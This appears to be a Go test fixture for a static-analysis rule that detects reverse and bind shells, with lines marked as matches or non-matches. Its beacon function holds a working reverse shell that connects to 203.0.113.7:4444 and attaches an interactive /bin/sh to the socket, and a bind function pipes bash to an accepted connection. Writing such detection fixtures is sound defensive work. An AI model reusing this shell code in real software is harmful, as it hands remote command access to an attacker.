// Fixture for go-reverse-shell.
// RULEID: net.Dial + exec.Command("/bin/sh") with Stdin/Stdout/Stderr = conn; bind shell via Accept.
// OK: a command whose output goes to a buffer; a connection used to proxy to another connection.
package main

import (
	"bytes"
	"io"
	"net"
	"os/exec"
)

func beacon() {
	conn, err := net.Dial("tcp", "203.0.113.7:4444")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh", "-i")
	// ruleid: go-reverse-shell
	cmd.Stdin = conn
	// ruleid: go-reverse-shell
	cmd.Stdout = conn
	// ruleid: go-reverse-shell
	cmd.Stderr = conn
	cmd.Run()
}

func bind(l net.Listener) {
	c, _ := l.Accept()
	sh := exec.Command("bash")
	// ruleid: go-reverse-shell
	sh.Stdin = c
	sh.Run()
}

func version() string {
	conn, _ := net.Dial("tcp", "127.0.0.1:9000")
	defer conn.Close()
	var buf bytes.Buffer
	cmd := exec.Command("git", "describe")
	// ok: go-reverse-shell
	cmd.Stdout = &buf
	cmd.Run()
	// ok: go-reverse-shell
	io.Copy(conn, &buf)
	return buf.String()
}
